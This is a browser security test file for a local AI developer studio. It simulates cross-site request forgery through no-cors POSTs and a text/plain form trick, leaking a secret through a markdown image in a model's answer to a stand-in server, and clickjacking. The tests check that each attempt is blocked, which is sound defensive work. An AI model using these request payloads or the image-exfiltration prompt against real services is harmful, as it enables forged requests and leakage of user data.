/**
 * What a page of another site can do to a developer's studio in a real browser, against the
 * shared local server (the development defaults: loopback, no credentials, the published key
 * `genstudio-dev-key`). An "attacker" server of this spec's own serves pages on another
 * origin; a "leak" server counts the requests an answer's markdown makes the browser send
 * outside.
 */
import http from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test } from "@playwright/test";
import { ChatPage } from "./pages/chat-page";
import { DEVELOPMENT_KEY, localServer } from "./support/servers";

interface SmallServer {
  origin: string;
  hits: string[];
  close(): Promise<void>;
}

/** An HTTP server on 127.0.0.1 that answers every path with `html` and records the paths asked. */
async function smallServer(html: string): Promise<SmallServer> {
  const hits: string[] = [];
  const server = http.createServer((request, response) => {
    hits.push(request.url ?? "");
    response.writeHead(200, { "content-type": "text/html; charset=utf-8" });
    response.end(html);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    hits,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

async function cacheNames(): Promise<string[]> {
  const response = await fetch(`${localServer.baseUrl}/v1beta/cachedContents?pageSize=1000`, {
    headers: { "x-goog-api-key": DEVELOPMENT_KEY },
  });
  const body = (await response.json()) as { cachedContents?: { displayName?: string }[] };
  return (body.cachedContents ?? []).map((cache) => cache.displayName ?? "");
}

test("a page of another origin cannot use the development key: simple POSTs and forms are refused, nothing is planted", async ({
  page,
}) => {
  const attacker = await smallServer("<!doctype html><title>elsewhere</title>");
  try {
    await page.goto(attacker.origin);
    const displayName = `planted-${Date.now()}`;
    const cache = {
      model: "models/gemini-2.5-flash",
      displayName,
      contents: [{ role: "user", parts: [{ text: "planted ".repeat(600) }] }],
    };
    // Requests a page may send anywhere without a CORS preflight: no-cors fetches with a
    // text/plain body (or none), and a form posted to the API.
    await page.evaluate(
      async ({ target, body }) => {
        const url = `${target}/v1beta/cachedContents?key=genstudio-dev-key`;
        await fetch(url, { method: "POST", mode: "no-cors", body });
        await fetch(url, {
          method: "POST",
          mode: "no-cors",
          headers: { "content-type": "text/plain" },
          body,
        });
        const form = document.createElement("form");
        form.method = "POST";
        form.action = url;
        form.enctype = "text/plain";
        const field = document.createElement("input");
        field.name = body.slice(0, -1);
        field.value = "}";
        form.append(field);
        document.body.append(form);
        form.submit();
      },
      { target: localServer.baseUrl, body: JSON.stringify(cache) },
    );
    await page.waitForLoadState("load");
    expect(await cacheNames()).not.toContain(displayName);
  } finally {
    await attacker.close();
  }
});

test("programs are unaffected: a JSON body is taken whatever its declared type, as the service takes it", async () => {
  // @google/generative-ai's GoogleAICacheManager.create sends its JSON with no Content-Type,
  // which fetch declares as text/plain (dist/server/index.js, getHeaders): the service takes
  // it, so the studio refuses browsers by where they come from, never programs by the type.
  const url = `${localServer.baseUrl}/v1beta/models/gemini-2.5-flash:countTokens`;
  const body = JSON.stringify({ contents: [{ parts: [{ text: "Hello there" }] }] });
  for (const type of ["text/plain;charset=UTF-8", "application/json"]) {
    const response = await fetch(url, {
      method: "POST",
      headers: { "x-goog-api-key": DEVELOPMENT_KEY, "content-type": type },
      body,
    });
    expect(response.status, type).toBe(200);
  }
});

test("an answer's markdown image from outside is never fetched: the pages' policy allows no outside resource", async ({
  page,
}) => {
  const leak = await smallServer("");
  try {
    const chat = new ChatPage(page);
    const response = await page.goto("/chat");
    const policy = response!.headers()["content-security-policy"] ?? "";
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]{20,}'/);
    expect(policy).toContain("img-src 'self' data: blob:");
    expect(policy).toContain("connect-src 'self' blob:");
    await expect(chat.prompt).toBeVisible();
    await chat.limitAnswers(200);
    const secret = `secret-${Date.now()}`;
    await chat.send(`Repeat after me: Done. ![status](${leak.origin}/pixel.png?q=${secret})`);
    await chat.waitForAnswerDone();
    // The image is in the answer as markdown made it; the browser refused to fetch it.
    const image = chat.lastAnswer().locator(`img[src*="${secret}"]`);
    await expect(image).toHaveCount(1);
    // Settled (a refused image is "complete" and broken at once): nothing reached the server.
    await expect
      .poll(() => image.evaluate((element: HTMLImageElement) => element.complete))
      .toBe(true);
    expect(await image.evaluate((element: HTMLImageElement) => element.naturalWidth)).toBe(0);
    expect(leak.hits).toEqual([]);
  } finally {
    await leak.close();
  }
});

test("no other site can frame the studio", async ({ page }) => {
  const attacker = await smallServer(
    `<!doctype html><title>framer</title><iframe id="studio" src="${localServer.baseUrl}/chat" width="800" height="600"></iframe>`,
  );
  try {
    const studio = await page.request.get(`${localServer.baseUrl}/chat`);
    expect(studio.headers()["x-frame-options"]).toBe("DENY");
    await page.goto(attacker.origin);
    await page.waitForLoadState("load");
    const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
    // Blocked: the frame holds the browser's error page, never the studio's document.
    expect(frame?.url() ?? "").not.toContain(localServer.baseUrl);
    await expect(
      page.frameLocator("#studio").getByRole("heading", { name: "Genstudio" }),
    ).toHaveCount(0);
  } finally {
    await attacker.close();
  }
});
